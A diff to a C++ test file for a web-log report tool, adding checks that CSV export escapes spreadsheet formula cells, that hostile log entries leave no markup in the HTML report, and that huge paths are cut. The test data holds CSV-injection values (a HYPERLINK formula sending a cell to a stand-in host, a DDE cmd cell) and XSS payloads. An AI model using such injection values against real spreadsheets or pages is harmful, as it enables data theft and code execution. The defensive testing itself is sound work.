@@ -1,6 +1,7 @@
 // SPDX-License-Identifier: GPL-3.0-or-later
-// The month report: browser families, CSV quoting, a hostile log's page, and
-// the report of a month analysed by an earlier version, headings and date.
+// The month report: browser families, CSV quoting and formula cells, a
+// hostile log's page (markup, huge texts), and the report of a month analysed
+// by an earlier version, headings and date.
 #include <gtest/gtest.h>
 
 #include <set>
@@ -71,6 +72,15 @@ TEST(ReportCsvTest, QuotesFieldsAsRfc4180) {
               "Name,Hits\r\nplain,1\r\n\"a,b\",2\r\n\"say \"\"hi\"\"\",3\r\n\"two\r\nlines\",4\r\n"
               "\" padded\",5\r\n");
     EXPECT_EQ(Cp1252ToUtf8("caf\xe9 \x80"), "caf\xc3\xa9 \xe2\x82\xac");
+    // Cells a spreadsheet would evaluate are kept as text; numbers stay numbers.
+    t.rows = {{"=HYPERLINK(\"http://x/?\"&A1)", "-3"},
+              {"+cmd|' /C calc'!A0", "+1.5"},
+              {"-2+3", "@SUM(A1)"},
+              {"\tx", "\r=1"}};
+    EXPECT_EQ(
+        TableCsv(t),
+        "Name,Hits\r\n\"'=HYPERLINK(\"\"http://x/?\"\"&A1)\",-3\r\n'+cmd|' /C calc'!A0,+1.5\r\n"
+        "'-2+3,'@SUM(A1)\r\n'\tx,\"'\r=1\"\r\n");
 }
 
 MonthReport ReportOf(TestStore& store, const std::string& key) {
@@ -90,7 +100,9 @@ TEST(ReportHtmlTest, HostileLogLeavesNoMarkupInThePage) {
         {Combined("<b>host</b>", "03/May/2004:10:00:00 +0200", "GET /p<script>.html?q=1 HTTP/1.0",
                   "200", "10", "http://evil.example/?q=<svg/onload=alert(3)>", "bot" + evil),
          Combined("1.1.1.1", "03/May/2004:11:00:00 +0200", "GET /caf\xe9.html HTTP/1.0", "200",
-                  "10", "http://x.example/" + evil, "Mozilla" + evil)});
+                  "10", "http://x.example/" + evil, "Mozilla" + evil),
+         Combined("1.1.1.1", "03/May/2004:12:00:00 +0200",
+                  "GET /" + std::string(100000, 'a') + " HTTP/1.0", "200", "10")});
     ScriptedObserver observer;
     ASSERT_TRUE(AnalyseLog(store.siteDir(), "2004-05", "", observer).completed);
     const MonthReport report = ReportOf(store, "2004-05");
@@ -103,6 +115,11 @@ TEST(ReportHtmlTest, HostileLogLeavesNoMarkupInThePage) {
     EXPECT_NE(html.find("<svg viewBox"), std::string::npos);       // the graphs are inline
     EXPECT_EQ(html.find("src=\""), std::string::npos);             // and nothing is fetched
     EXPECT_EQ(html.find("href="), std::string::npos);
+    // A huge path is cut as the windows cut it, in the page and in the CSV.
+    EXPECT_NE(html.find(std::string(3999, 'a') + "\xE2\x80\xA6"), std::string::npos);
+    EXPECT_EQ(html.find(std::string(4001, 'a')), std::string::npos);
+    for (const ReportTable& t : report.tables)
+        EXPECT_EQ(TableCsv(t).find(std::string(4001, 'a')), std::string::npos) << t.name;
 }
 
 TEST(ReportHtmlTest, MonthOfAnEarlierVersionSaysToAnalyseAgain) {
